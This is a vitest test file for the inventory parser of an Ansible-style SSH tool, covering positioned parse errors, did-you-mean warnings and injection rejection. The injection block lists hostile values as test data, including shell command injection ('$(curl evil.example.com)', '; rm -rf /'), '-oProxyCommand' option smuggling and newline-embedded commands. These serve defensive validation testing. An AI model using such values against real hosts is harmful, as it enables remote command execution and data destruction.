import { describe, expect, test } from 'vitest';
import { ConfigError, formatDiagnostic } from '../../../src/core/errors.js';
import type { Diagnostic } from '../../../src/core/errors.js';
import { parseInventory } from '../../../src/core/inventory/index.js';

/** Every diagnostic of a failed parse. */
function errorsOf(text: string): Diagnostic[] {
  try {
    parseInventory(text, 'inventory.yml', { user: 'root' });
  } catch (error) {
    if (error instanceof ConfigError) return error.diagnostics;
    throw error;
  }
  throw new Error('parse succeeded');
}

/** line:col of the first occurrence of `needle` in `text` (1-based). */
function at(text: string, needle: string): { line: number; col: number } {
  const offset = text.indexOf(needle);
  if (offset < 0) throw new Error(`no ${needle}`);
  const before = text.slice(0, offset).split('\n');
  return { line: before.length, col: before[before.length - 1]!.length + 1 };
}

describe('structural mistakes, positioned', () => {
  test('an unknown group key, with did-you-mean', () => {
    const text = 'all:\n  host:\n    web1:\n';
    expect(errorsOf(text).map(formatDiagnostic)).toEqual(['inventory.yml:2:3: all.host is not a known group key (did you mean hosts?)']);
  });

  test('hosts written as a list', () => {
    const text = 'all:\n  children:\n    web:\n      hosts: [a, b]\n';
    const [d] = errorsOf(text);
    expect(d).toMatchObject({ ...at(text, '[a, b]'), severity: 'error' });
    expect(d!.message).toBe('all.children.web.hosts must be a map of host names (each to null or a map of vars)');
  });

  test('a wrong-typed var points at its value and names the expected type', () => {
    const text = 'all:\n  hosts:\n    web1:\n      ansible_port: many\n';
    const [d] = errorsOf(text);
    expect(d).toMatchObject(at(text, 'many'));
    expect(d!.message).toBe('all.hosts.web1.ansible_port must be a port number from 1 to 65535');
  });

  test('every error is reported, not just the first', () => {
    const text = 'all:\n  vars:\n    port: 0\n  hosts:\n    web1:\n      user: "9lives"\n      become: maybe\n';
    const diagnostics = errorsOf(text);
    expect(diagnostics.map((d) => [d.line, d.col])).toEqual([
      [3, 11],
      [6, 13],
      [7, 15],
    ]);
  });

  test('a group that contains itself', () => {
    const text = 'all:\n  children:\n    a:\n      children:\n        b:\n          children:\n            a:\n';
    const [d] = errorsOf(text);
    expect(d).toMatchObject({ line: 7, col: 13 });
    expect(d!.message).toMatch(/group a cannot be a child of b.*loop/);
  });

  test('conflicting aliases of one setting in the same vars map', () => {
    const text = 'all:\n  hosts:\n    h1:\n      address: 192.0.2.1\n      ansible_host: 192.0.2.2\n';
    const [d] = errorsOf(text);
    expect(d).toMatchObject(at(text, 'ansible_host'));
    expect(d!.message).toContain('conflicts with all.hosts.h1.address');
  });

  test('bad ranges in host names', () => {
    for (const [key, reason] of [
      ['web[3:1]', 'begin comes after its end'],
      ['web[01:5]', 'different widths'],
      ['web[1:]', 'without an end'],
      ['web[0:99999999]', 'more than 10000 hosts'],
      ['web[a:3]', 'bounds must be numbers or single letters'],
    ]) {
      const text = `all:\n  hosts:\n    ${key}:\n`;
      const [d] = errorsOf(text);
      expect(d, key).toMatchObject({ line: 3, col: 5 });
      expect(d!.message, key).toContain(reason!);
    }
  });

  test('Jinja2 templates are named as such', () => {
    const text = 'all:\n  hosts:\n    h1:\n      ansible_host: "{{ inventory_hostname }}.example.com"\n';
    expect(errorsOf(text)[0]!.message).toContain('fleet does not evaluate Jinja2 templates');
  });
});

describe('injection attempts are refused where written', () => {
  // Each value would reach ssh's argv or a remote shell; every one must be refused with a position.
  const values: [key: string, value: string][] = [
    ['ansible_host', '"web1; reboot"'],
    ['ansible_host', '"$(curl evil.example.com)"'],
    ['address', '"`id`"'],
    ['address', '"-oProxyCommand=sh"'],
    ['address', '"web1\\nreboot"'],
    ['address', '"web1 #comment"'],
    ['address', `"it's"`],
    ['ansible_user', '"root;id"'],
    ['user', '"-l"'],
    ['user', '"$(whoami)"'],
    ['ansible_ssh_private_key_file', '"relative/key"'],
    ['identity_file', '"/keys/a key"'],
    ['identity_file', '"/keys/k\\nssh"'],
    ['sshd_config_path', '"/etc/ssh/sshd_config; rm -rf /"'],
    ['sshd_config_path', '"etc/ssh/sshd_config"'],
    ['sshd_binary', '"/usr/sbin/sshd`x`"'],
    ['sshd_reload_command', '"kill -HUP 1\\nreboot"'],
    ['jump', '"bastion;id"'],
    ['jump', '"a@b:22,c@d:22"'],
    ['jump', '"-J evil"'],
    ['ansible_port', '"22; id"'],
    ['ansible_become', '"$(id)"'],
  ];
  test.each(values)('%s: %s', (key, value) => {
    const text = `all:\n  hosts:\n    h1:\n      ${key}: ${value}\n`;
    const diagnostics = errorsOf(text);
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ line: 4, col: 9 + key.length, severity: 'error' });
    expect(diagnostics[0]!.message).toMatch(new RegExp(`^all\\.hosts\\.h1\\.${key} must be`));
  });

  const hostNames = ['"web 1"', '"web;1"', '"$(id)"', '"`id`"', '"-oProxyCommand=x"', '"web\'1"', '"web#1"', '"web\\n1"'];
  test.each(hostNames)('host name %s', (name) => {
    const text = `all:\n  hosts:\n    ${name}:\n`;
    const diagnostics = errorsOf(text);
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ line: 3, col: 5 });
    expect(diagnostics[0]!.message).toMatch(/is not a valid host name/);
  });

  const groupNames = ['"web:prod"', '"web prod"', '"web!"', '"$(id)"', '"-web"'];
  test.each(groupNames)('group name %s', (name) => {
    const text = `all:\n  children:\n    ${name}:\n      hosts:\n        h1:\n`;
    const diagnostics = errorsOf(text);
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ line: 3, col: 5 });
    expect(diagnostics[0]!.message).toMatch(/is not a valid group name/);
  });

  test('a host name that is not an address needs one', () => {
    // "web_1." is fine as a name, but ranges must still produce valid names.
    const text = 'all:\n  hosts:\n    "web[1:2]-$":\n';
    expect(errorsOf(text)[0]).toMatchObject({ line: 3, col: 5 });
  });

  test('an invalid default user is reported when a host needs it', () => {
    expect(() => parseInventory('all:\n  hosts:\n    h1:\n', 'i.yml', { user: 'bad user' })).toThrow(/default user "bad user" is not a valid user name/);
    // ...and not when every host names its user.
    expect(parseInventory('all:\n  vars:\n    user: ok\n  hosts:\n    h1:\n', 'i.yml', { user: 'bad user' }).hosts.size).toBe(1);
  });
});

describe('warnings, not errors', () => {
  const warningsOf = (text: string): string[] => parseInventory(text, 'inventory.yml', { user: 'root' }).warnings.map(formatDiagnostic);

  test('a misspelled fleet var gets did-you-mean; the inventory still loads', () => {
    const text = 'all:\n  vars:\n    adress: 192.0.2.1\n  hosts:\n    h1:\n      identityfile: /k\n      ansible_hots: x\n';
    expect(warningsOf(text)).toEqual([
      'inventory.yml:3:5: warning: all.vars.adress is not a var fleet reads (did you mean address?); it is ignored',
      'inventory.yml:6:7: warning: all.hosts.h1.identityfile is not a var fleet reads (did you mean identity_file?); it is ignored',
      'inventory.yml:7:7: warning: all.hosts.h1.ansible_hots is not a var fleet reads (did you mean ansible_host?); it is ignored',
    ]);
  });

  test("other Ansible and role vars are left alone (users is not user's typo)", () => {
    const text = 'all:\n  vars:\n    users: [alice]\n    ntp: pool.ntp.org\n    ansible_become_user: root\n    ansible_ssh_pass: x\n  hosts:\n    h1:\n';
    expect(warningsOf(text)).toEqual([]);
  });

  test('a ProxyJump hidden in ansible_ssh_common_args is pointed out', () => {
    const text = 'all:\n  vars:\n    ansible_ssh_common_args: "-o ProxyJump=ops@bastion.example.com"\n  hosts:\n    h1:\n';
    expect(warningsOf(text)).toEqual([
      'inventory.yml:3:5: warning: all.vars.ansible_ssh_common_args is not read by fleet; set jump: ops@bastion.example.com for a jump host',
    ]);
  });
});
